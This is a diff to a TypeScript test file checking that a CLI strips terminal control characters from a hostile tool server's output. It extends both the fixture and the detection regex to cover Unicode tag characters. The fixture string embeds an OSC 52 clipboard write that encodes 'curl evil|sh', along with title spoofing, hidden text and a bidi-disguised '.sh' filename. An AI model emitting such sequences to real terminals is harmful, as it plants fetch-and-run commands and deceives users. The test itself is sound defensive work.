@@ -14,7 +14,7 @@ import { CLI } from '../support/serveProcess';
 
 const LYING = fileURLToPath(new URL('../support/lyingMcpServer.ts', import.meta.url));
 /** What a hostile server says to a terminal: a clipboard write (OSC 52), a title, hidden text, a line rewritten, a C1 control, reordered text. */
-const SHOUT = 'Reads\u001b]52;c;Y3VybCBldmlsfHNo\u0007 the\u001b]0;PWNED\u0007 clock\u001b[8m\rrisk low\u009b31m invoice_\u202Efdp.sh\u202C\u200B';
+const SHOUT = 'Reads\u001b]52;c;Y3VybCBldmlsfHNo\u0007 the\u001b]0;PWNED\u0007 clock\u001b[8m\rrisk low\u009b31m invoice_\u202Efdp.sh\u202C\u200B tag\u{E0041}';
 let gw: TestGateway;
 let agentToken: string;
 
@@ -44,9 +44,9 @@ function capstan(...args: string[]): Promise<{ stdout: string; stderr: string }>
   return new Promise((resolve) => child.once('close', () => resolve({ stdout, stderr })));
 }
 
-/** Anything a terminal acts on rather than shows: C0 but newline and tab, DEL, C1, bidirectional and invisible marks. */
+/** Anything a terminal acts on rather than shows: C0 but newline and tab, DEL, C1, bidirectional and invisible marks, tag characters. */
 // eslint-disable-next-line no-control-regex -- finding control characters is the point
-const ACTED_ON = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E]/;
+const ACTED_ON = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E]|\uDB40[\uDC00-\uDC7F]/;
 
 describe('what the CLI prints', () => {
   it.each([
